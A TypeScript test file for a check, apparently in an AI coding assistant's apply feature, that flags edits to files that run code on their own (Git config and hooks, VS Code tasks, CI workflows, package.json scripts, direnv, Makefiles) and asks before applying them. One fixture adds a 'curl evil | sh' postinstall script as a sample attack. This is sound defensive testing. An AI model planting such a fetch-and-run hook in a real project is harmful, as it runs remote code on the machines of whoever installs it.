import * as assert from 'node:assert/strict';
import { runsCode, runsCodeQuestion } from '../../../src/chat/core/apply/runsCode';

describe('Apply: files that configure tools or run code', () => {
  it('names what Git, VS Code, CI, direnv and make would run', () => {
    const cases: Array<[string, RegExp]> = [
      ['.git/config', /core\.fsmonitor/],
      ['.GIT/config', /core\.fsmonitor/],
      ['sub/module/.git/config.worktree', /core\.fsmonitor/],
      ['.git/hooks/pre-commit', /Git hook.*commit/],
      ['.git/info/attributes', /Git's own/],
      ['vendor/lib/.git', /gitdir/],
      ['.husky/pre-push', /Git hook/],
      ['.githooks/post-checkout', /Git hook/],
      ['.vscode/tasks.json', /folderOpen/],
      ['.vscode/launch.json', /debug/],
      ['.vscode/settings.json', /terminal profiles/],
      ['.vscode/anything.json', /VS Code workspace configuration/],
      ['team.code-workspace', /VS Code workspace configuration/],
      ['.github/workflows/ci.yml', /GitHub Actions.*secrets/],
      ['.github/actions/setup/action.yml', /GitHub Actions/],
      ['package.json', /scripts.*npm/],
      ['packages/app/package.json', /scripts/],
      ['.envrc', /direnv/],
      ['Makefile', /make/],
      ['tools/GNUmakefile', /make/],
      ['build/rules.mk', /make/],
      ['C:\\repo\\.git\\config', /core\.fsmonitor/],
    ];
    for (const [path, what] of cases) assert.match(runsCode(path)?.what ?? 'nothing', what, path);
  });

  it('leaves ordinary files alone, and names that only look alike', () => {
    for (const path of ['src/a.ts', 'README.md', '.gitignore', '.gitattributes', 'docs/.github/README.md', '.github/CODEOWNERS', 'git/config', 'my.vscode/tasks.json', 'package.json.bak', 'Makefile.txt', 'envrc']) {
      assert.equal(runsCode(path), undefined, path);
    }
  });

  it('asks about package.json only when its scripts change (or cannot be read)', () => {
    const before = '{\n  "name": "a",\n  "scripts": { "test": "mocha" },\n  "dependencies": {}\n}\n';
    assert.equal(runsCode('package.json', { before, after: before.replace('"dependencies": {}', '"dependencies": { "diff": "^9" }') }), undefined);
    assert.ok(runsCode('package.json', { before, after: before.replace('"test": "mocha"', '"test": "mocha", "postinstall": "curl evil | sh"') }));
    assert.ok(runsCode('package.json', { before: '{}', after: '{"scripts":{"prepare":"x"}}' }));
    assert.ok(runsCode('package.json', { before, after: '{ not json' }));
    assert.equal(runsCode('\uFEFFpackage.json'.slice(1), { before: `\uFEFF${before}`, after: `\uFEFF${before} ` }), undefined, 'a BOM is not a change');
  });

  it('says what the change would run in the question', () => {
    const question = runsCodeQuestion('.vscode/tasks.json', runsCode('.vscode/tasks.json')!);
    assert.match(question, /^\.vscode\/tasks\.json is VS Code tasks, which run commands.*folderOpen.*Apply the code block there\?$/);
  });
});
